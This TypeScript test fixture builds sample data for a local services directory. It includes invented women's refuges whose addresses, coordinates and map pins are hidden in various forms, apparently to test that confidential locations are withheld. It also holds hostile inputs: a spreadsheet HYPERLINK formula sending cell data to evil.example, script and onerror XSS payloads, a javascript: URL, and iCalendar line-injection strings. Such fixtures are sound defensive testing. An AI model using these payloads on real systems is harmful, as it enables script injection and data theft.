import { sampleWorld } from '../../../subgraphs/kit/sample/borough/index.ts';
import { service } from '../../../subgraphs/kit/sample/borough/define.ts';
import type { SampleSeries, SampleVenue, SampleWorld } from '../../../subgraphs/kit/sample/world.ts';

/** What tells where the invented refuges are: their houses, streets, postcodes, points, and the ways to write those. */
export const secrets =
  /veiled|shrouded|cloaked|SM1[ +%20]*4MO|SM6[ +%20]*7MK|SM5[ +%20]*2OC|51\.3777|-0\.1555|51\.3888|-0\.1333|51\.3999|-0\.1444|mystery\.pin\.words|9C3XGV2R|secretpin/i;

const veiled: SampleVenue = {
  key: 'veiled',
  name: 'Veiled House',
  lines: ['41 Sample Veiled Lane'],
  postcode: 'SM1 4MO',
  latitude: 51.37771,
  longitude: -0.15551,
  ward: 'Sutton North',
  confidential: true,
};
const shrouded: SampleVenue = {
  key: 'shrouded',
  name: 'Shrouded Court',
  lines: ['42 Sample Shrouded Street'],
  postcode: 'SM6 7MK',
  latitude: 51.38881,
  longitude: -0.13331,
  ward: 'Wallington North',
};
const cloaked: SampleVenue = {
  key: 'cloaked',
  name: 'Cloaked Lodge',
  lines: ['43 Sample Cloaked Road'],
  postcode: 'SM5 2OC',
  latitude: 51.39991,
  longitude: -0.14441,
  ward: 'St Helier West',
};

/** A formula, markup, a line break, an unsafe link and a Unicode override, as a hostile directory may send them. */
const hostile = `=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script><img src=x onerror=alert(1)>"'\`</title></script><!--]]>[a](javascript:alert(1))\u202e`;

const services = [
  // Flagged by its house in one directory; the other says no word of a refuge and gives the address.
  service({
    key: 'veiled-refuge',
    name: 'Veiled House',
    organisation: 'safe-places',
    summary: 'A refuge for women. Find us at 41 Sample Veiled Lane.',
    description:
      'We are at 41, Sample Veiled Ln (SM1 4MO). Pin: https://maps.app.goo.gl/secretpin9Xy. ///mystery.pin.words or 9C3XGV2R+2F. Ring us.',
    venues: ['veiled'],
    phone: '08081 570201',
    email: 'veiled-house@example.org',
    url: 'https://maps.app.goo.gl/secretpin9Xy',
    free: true,
    delivery: ['IN_PERSON'],
    referral: ['SELF', 'PROFESSIONAL'],
    categories: ['Domestic abuse', 'Housing'],
    areaServed: 'Sutton North',
    listedBy: {
      'information-hub': {},
      'local-offer': {
        name: 'Veiled House family support',
        summary: 'Family support at 41 Sample Veiled Lane.',
        sendNeeds: ['Autism'],
        sendSupport: 'Come to Veiled House, 41 Sample Veiled Lane, SM1 4MO: step-free from Sample Veiled Lane.',
      },
    },
  }),
  // Only its words tell; the NHS lists a clinic of the same house and number.
  service({
    key: 'shrouded-refuge',
    name: 'Shrouded Court accommodation',
    organisation: 'safe-places',
    summary: 'Safe accommodation for women who flee domestic violence.',
    venues: ['shrouded'],
    phone: '020 7946 0981',
    free: true,
    referral: ['PROFESSIONAL'],
    categories: ['Housing'],
    listedBy: {
      'information-hub': {},
      nhs: {
        odsCode: 'SAMP91',
        type: 'CLI',
        name: 'SHROUDED COURT ACCOMMODATION',
        services: ['Clinic at Shrouded Court'],
      },
    },
  }),
  // A group of the same people in the same house, which says nothing of a refuge.
  service({
    key: 'shrouded-group',
    name: 'Mothers and toddlers',
    organisation: 'safe-places',
    summary: 'Play for under fives at Shrouded Court.',
    venues: ['shrouded'],
    url: '/providers/closed-shrouded-street',
    phone: '020 7946 0981',
    listedBy: { 'information-hub': {} },
  }),
  // Listed at a hub as a session, too.
  service({
    key: 'cloaked-refuge',
    name: 'Cloaked Lodge women’s refuge',
    organisation: 'safe-places',
    summary: 'Women’s refuge.',
    venues: ['cloaked'],
    phone: '020 7946 0982',
    hours: [{ days: [1], opens: '10:00', closes: '11:00' }],
    listedBy: { 'information-hub': {} },
  }),
  service({
    key: 'hostile',
    name: hostile,
    organisation: 'hostile',
    summary: hostile,
    description: hostile,
    venues: ['civic'],
    url: 'javascript:alert(1)',
    email: '"><script>alert(1)</script>@example.org',
    phone: '020 7946 0983',
    costText: hostile,
    ages: { text: hostile, fromYears: 1, toYears: 2 },
    languages: [hostile],
    referral: ['SELF'],
    categories: [hostile],
    circumstances: [hostile],
    areaServed: hostile,
    listedBy: {
      'information-hub': {},
      'local-offer': { sendNeeds: [hostile], sendSupport: hostile },
    },
  }),
];

const series: SampleSeries[] = [
  {
    key: 'cloaked-session',
    title: 'Cloaked Lodge women’s refuge',
    description: 'Coffee at 43 Sample Cloaked Road.',
    hub: 'carshalton',
    venue: 'cloaked',
    service: 'cloaked-refuge',
    day: 2,
    start: '10:00',
    end: '11:00',
  },
  {
    key: 'shrouded-session',
    title: 'Craft morning',
    description: 'Paper and glue.',
    hub: 'wallington',
    venue: 'shrouded',
    day: 3,
    start: '10:00',
    end: '11:00',
  },
  {
    key: 'hostile-session',
    title: `${hostile}\r\nEND:VEVENT\r\nBEGIN:VALARM`,
    description: `${hostile}\r\nATTACH:http://evil.example/`,
    hub: 'cheam-south-sutton',
    day: 4,
    start: '10:00',
    end: '11:00',
    agesText: hostile,
  },
  {
    key: 'hostile-row',
    title: hostile,
    description: hostile,
    hub: 'central-sutton',
    day: 4,
    start: '10:00',
    end: '11:00',
  },
];

/** The sample's borough with more refuges, told in many ways, and with a service and sessions that mean harm. */
export const hostileWorld: SampleWorld = {
  organisations: [
    ...sampleWorld.organisations,
    { key: 'hostile', name: hostile, description: hostile, email: 'x@example.org' },
  ],
  venues: [...sampleWorld.venues, veiled, shrouded, cloaked],
  services: [...sampleWorld.services, ...services],
  series: [...sampleWorld.series, ...series],
};
